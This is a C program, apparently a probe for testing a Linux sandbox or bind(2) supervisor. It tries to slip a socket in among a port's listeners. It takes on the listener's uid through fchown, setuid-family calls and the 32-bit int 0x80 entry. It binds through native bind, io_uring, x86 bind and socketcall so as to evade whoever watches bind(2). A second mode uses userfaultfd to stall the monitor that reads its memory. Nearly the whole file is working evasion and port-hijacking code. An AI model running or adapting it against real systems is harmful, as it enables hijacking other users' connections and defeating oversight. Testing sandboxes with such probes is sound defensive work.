/*
 * Tries to get a socket of its own in among the listeners of a port, past whoever is told of bind(2), and to stall who
 * reads its memory. It knows nothing of who that is. Output: "WAY: OUTCOME" per line.
 *
 *     abuse join PORT     each way to bind 127.0.0.1:PORT beside the listener there; "joined" where one works
 *     abuse stall PORT    binds from memory that never comes (userfaultfd(2)), in the background, and says so
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fsuid.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static struct sockaddr_in address;

static int new_socket(void)
{
	int on = 1, it = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(it, SOL_SOCKET, SO_REUSEPORT, &on, sizeof on);
	setsockopt(it, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	return it;
}

static long native(long number, long first, long second, long third)
{
	long answer = syscall(number, first, second, third, 0L, 0L, 0L);
	return answer == -1 ? -errno : answer;
}

#ifdef __x86_64__
/* The 32-bit entry of the kernel, which a 64-bit program can use as well; its pointers have 32 bits. */
static long x86(long number, long first, long second, long third)
{
	long answer = number;
	__asm__ volatile("int $0x80"
			 : "+a"(answer)
			 : "b"(first), "c"(second), "d"(third)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	return (int)answer;
}

static void *low_memory(void)
{
	void *at = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	memcpy(at, &address, sizeof address);
	return at;
}

static long bind_x86(int it)
{
	return x86(361, it, (long)low_memory(), sizeof address);
}

static long bind_socketcall(int it)
{
	char *at = low_memory();
	unsigned int *arguments = (unsigned int *)(at + 64);
	arguments[0] = it;
	arguments[1] = (unsigned int)(long)at;
	arguments[2] = sizeof address;
	return x86(102, 2, (long)arguments, 0);
}
#endif

static long bind_native(int it)
{
	return native(SYS_bind, it, (long)&address, sizeof address);
}

/* IORING_OP_BIND, since Linux 6.11. */
static long bind_ring(int it)
{
	struct io_uring_params parameters = { 0 };
	long ring = native(SYS_io_uring_setup, 4, (long)&parameters, 0);
	if (ring < 0)
		return ring;
	size_t bytes = parameters.sq_off.array + parameters.sq_entries * 4 + parameters.cq_off.cqes + 4096;
	char *queue = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	struct io_uring_sqe *entry = mmap(NULL, parameters.sq_entries * sizeof *entry, PROT_READ | PROT_WRITE,
					  MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	memset(entry, 0, sizeof *entry);
	entry->opcode = 56;
	entry->fd = it;
	entry->addr = (unsigned long)&address;
	entry->addr2 = sizeof address;
	*(unsigned int *)(queue + parameters.sq_off.array) = 0;
	*(unsigned int *)(queue + parameters.sq_off.tail) += 1;
	long entered = syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	if (entered < 0)
		return -errno;
	return ((struct io_uring_cqe *)(queue + parameters.cq_off.cqes))->res;
}

/* Ways to a socket of another uid. */
static long no_owner(int *it, uid_t uid)
{
	(void)it, (void)uid;
	return 0;
}
static long by_fchown(int *it, uid_t uid) { return native(SYS_fchown, *it, uid, -1); }
static long by_fchownat(int *it, uid_t uid)
{
	return syscall(SYS_fchownat, *it, "", uid, -1, AT_EMPTY_PATH) ? -errno : 0;
}
static long by_path(int *it, uid_t uid)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", *it);
	return syscall(SYS_fchownat, AT_FDCWD, path, uid, -1, 0) ? -errno : 0;
}
static long again_as(int *it, long answer)
{
	close(*it);
	*it = new_socket();
	return answer;
}
static long by_setfsuid(int *it, uid_t uid) { native(SYS_setfsuid, uid, 0, 0); return again_as(it, 0); }
static long by_setuid(int *it, uid_t uid) { return again_as(it, native(SYS_setuid, uid, 0, 0)); }
static long by_setreuid(int *it, uid_t uid) { return again_as(it, native(SYS_setreuid, -1, uid, 0)); }
static long by_setresuid(int *it, uid_t uid) { return again_as(it, native(SYS_setresuid, -1, uid, -1)); }
#ifdef __x86_64__
static long by_fchown_x86(int *it, uid_t uid) { return x86(207, *it, (int)uid, -1); }
static long by_setfsuid_x86(int *it, uid_t uid) { x86(215, (int)uid, 0, 0); return again_as(it, 0); }
static long by_setresuid_x86(int *it, uid_t uid) { return again_as(it, x86(208, -1, (int)uid, -1)); }
#endif

static const struct {
	const char *name;
	long (*own)(int *, uid_t);
} owners[] = {
	{ "as it is", no_owner },	  { "fchown", by_fchown },	 { "fchownat", by_fchownat },
	{ "chown of its path", by_path }, { "setfsuid", by_setfsuid },	 { "setuid", by_setuid },
	{ "setreuid", by_setreuid },	  { "setresuid", by_setresuid },
#ifdef __x86_64__
	{ "fchown of x86", by_fchown_x86 },
	{ "setfsuid of x86", by_setfsuid_x86 },
	{ "setresuid of x86", by_setresuid_x86 },
#endif
};

static const struct {
	const char *name;
	long (*bind)(int);
} binders[] = {
	{ "bind", bind_native },
	{ "io_uring", bind_ring },
#ifdef __x86_64__
	{ "bind of x86", bind_x86 },
	{ "socketcall", bind_socketcall },
#endif
};

/* The uid of who listens on the port, as everybody can see it. */
static uid_t owner_of(unsigned int port)
{
	FILE *table = fopen("/proc/net/tcp", "r");
	char line[512];
	while (table && fgets(line, sizeof line, table)) {
		unsigned int local, state, uid;
		if (sscanf(line, " %*d: %*x:%x %*x:%*x %x %*x:%*x %*x:%*x %*x %u", &local, &state, &uid) == 3 &&
		    local == port && state == 10)
			return uid;
	}
	exit(3);
}

static void join(unsigned int port)
{
	uid_t uid = owner_of(port);
	for (size_t owner = 0; owner < sizeof owners / sizeof *owners; owner++)
		for (size_t binder = 0; binder < sizeof binders / sizeof *binders; binder++) {
			fflush(stdout);
			if (fork() != 0) {
				wait(NULL);
				continue;
			}
			int it = new_socket();
			long owned = owners[owner].own(&it, uid);
			long bound = binders[binder].bind(it);
			struct stat found = { 0 };
			fstat(it, &found);
			printf("%s, %s: %s, %s, %s\n", owners[owner].name, binders[binder].name,
			       owned ? strerrorname_np(-owned) : "done", found.st_uid == uid ? "its uid" : "another uid",
			       bound ? strerrorname_np(-bound) : listen(it, 1) ? "bound" : "joined");
			exit(0);
		}
}

static void *bind_what_never_comes(void *page)
{
	int it = new_socket();
	bind(it, page, sizeof address);
	return NULL;
}

static void stall(void)
{
	int ready[2];
	char none;
	printf("mount of fuse: %s\n", mount("none", "/mnt", "fuse", 0, "fd=0,rootmode=40000,user_id=0,group_id=0") ?
					       strerrorname_np(errno) : "done");
	fflush(stdout);
	/* What is registered is so for the process that does it, and not for a copy. */
	if (pipe(ready) || fork() != 0) {
		close(ready[1]);
		(void)!read(ready[0], &none, 1);
		return;
	}
	int faults = syscall(SYS_userfaultfd, O_CLOEXEC);
	printf("userfaultfd: %s\n", faults < 0 ? strerrorname_np(errno) : "done");
	fflush(stdout);
	if (faults < 0)
		exit(0);
	struct uffdio_api api = { .api = UFFD_API };
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct uffdio_register all = { .range = { (unsigned long)page, 4096 }, .mode = UFFDIO_REGISTER_MODE_MISSING };
	if (ioctl(faults, UFFDIO_API, &api) || ioctl(faults, UFFDIO_REGISTER, &all))
		printf("UFFDIO_REGISTER: %s\n", strerrorname_np(errno));
	for (int number = 0; number < 3; number++) {
		pthread_t thread;
		pthread_create(&thread, NULL, bind_what_never_comes, page);
	}
	/* So that they are asked about before any other. */
	usleep(100000);
	close(ready[1]);
	pause();
}

int main(int count, char **words)
{
	if (count != 3)
		return 2;
	unsigned int port = atoi(words[2]);
	address.sin_family = AF_INET;
	address.sin_port = htons(port);
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (strcmp(words[1], "join") == 0)
		join(port);
	else
		stall();
	return 0;
}
